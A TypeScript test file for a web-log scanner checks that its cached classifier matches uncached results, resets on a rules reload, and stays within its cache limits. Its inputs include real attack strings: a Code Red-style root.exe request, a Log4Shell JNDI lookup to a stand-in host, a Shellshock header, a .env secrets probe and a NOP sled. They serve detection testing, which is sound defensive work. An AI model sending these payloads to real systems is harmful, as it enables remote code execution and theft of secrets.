import assert from 'node:assert/strict';
import { compileCatalogue } from '../../src/detect/index.js';
import type { Signature } from '../../src/detect/types.js';
import { defaultEngine } from '../../src/rules/index.js';
import { classifyRecord, JUDGEMENT_CACHE, RecordClassifier } from '../../src/scan/classify.js';
import type { LogRecord } from '../../src/scan/record.js';
import { CODERED } from './fixtures.js';
import { parseClfLine } from '../../src/scan/formats/clf.js';

const engine = defaultEngine();
const at = new Date('2004-10-10T08:20:13Z');
const noTime = (): Date => new Date(0);

function record(target: string, extra: Partial<LogRecord> = {}): LogRecord {
  return { ip: '192.0.2.1', at, method: 'GET', target, status: 404, ...extra };
}

/** What a classification says, as plain data (the objects themselves differ by design). */
function shown(c: ReturnType<typeof classifyRecord>): unknown {
  return { event: c.event, path: c.normalised.path, line: c.normalised.line, at: c.at.toISOString() };
}

describe('scan/classify: remembered judgements', () => {
  it('judges every request exactly as classifyRecord does, repeats, variants and each line\'s own address included', () => {
    const codered = parseClfLine(CODERED) as LogRecord;
    const records: LogRecord[] = [
      record('/scripts/root.exe?/c+dir'),
      record('/scripts/root.exe?/c+dir', { ip: '198.51.100.7' }),
      record('/scripts/root.exe?/c+dir', { status: 200 }),
      record('/.env', { status: 200 }),
      record('/.env', { status: 404 }),
      record('/.env', { status: 200, userAgent: '${jndi:ldap://x/a}' }),
      record('/', { userAgent: '() { :; }; /bin/ping -c 3 82.118.236.247' }),
      record('/', { referer: '() { :; }; /bin/ping -c 3 82.118.236.247' }),
      record('/', { method: 'PROPFIND' }),
      codered,
      { ...codered, ip: '203.0.113.9' },
      record(`/${'\x90'.repeat(8_000)}`, { method: 'SEARCH', status: 414 }),
      record(`/${'\x90'.repeat(8_000)}`, { method: 'SEARCH', status: 414, ip: '203.0.113.10' }),
      record(`/${'a'.repeat(20_000)}`),
    ];
    const classifier = new RecordClassifier();
    for (const r of [...records, ...records]) {
      assert.deepEqual(shown(classifier.classify(engine, r, noTime)), shown(classifyRecord(engine, r, noTime)), r.target.slice(0, 40));
    }
    const events = records.map((r) => classifier.classify(engine, r, noTime).event);
    assert.deepEqual(events.map((e) => e?.verdict.signature.family ?? null).filter((f) => f !== null).length >= 6, true, 'worms, hunts, Shellshock and Log4Shell among them');
    assert.equal(events[1]?.ip, '198.51.100.7', 'the address is the line\'s, not the remembered one\'s');
    assert.notEqual(events[0]?.verdict, events[1]?.verdict, 'each event has its own verdict object');
  });

  it('forgets everything when the engine changes (a rules reload)', () => {
    const sig = (pattern: string): Signature => ({
      id: 'acme', family: 'test', title: 'ACME', description: 'test', references: [], stage: 'request',
      match: { target: 'path', pattern, literals: ['acme'] }, examples: { positive: [], negative: [] },
    });
    const first = compileCatalogue([sig('/acme$')]);
    const second = compileCatalogue([sig('/nothing$')]);
    const classifier = new RecordClassifier();
    assert.ok(classifier.classify(first, record('/acme'), noTime).event);
    assert.equal(classifier.classify(second, record('/acme'), noTime).event, null);
  });

  it('stays within its bounds however many distinct requests a log holds', () => {
    const classifier = new RecordClassifier();
    for (let i = 0; i < JUDGEMENT_CACHE.targets * 3; i++) classifier.classify(engine, record(`/page-${i}`), noTime);
    for (let i = 0; i < JUDGEMENT_CACHE.variants * 3; i++) classifier.classify(engine, record('/same', { userAgent: `agent ${i}` }), noTime);
    for (let i = 0; i < JUDGEMENT_CACHE.longEntries * 3; i++) classifier.classify(engine, record(`/${'x'.repeat(2_000)}${i}`), noTime);
    assert.ok(classifier.size <= JUDGEMENT_CACHE.targets + JUDGEMENT_CACHE.longEntries, `${classifier.size} entries`);
    assert.ok(classifier.size > 0);
  });
});
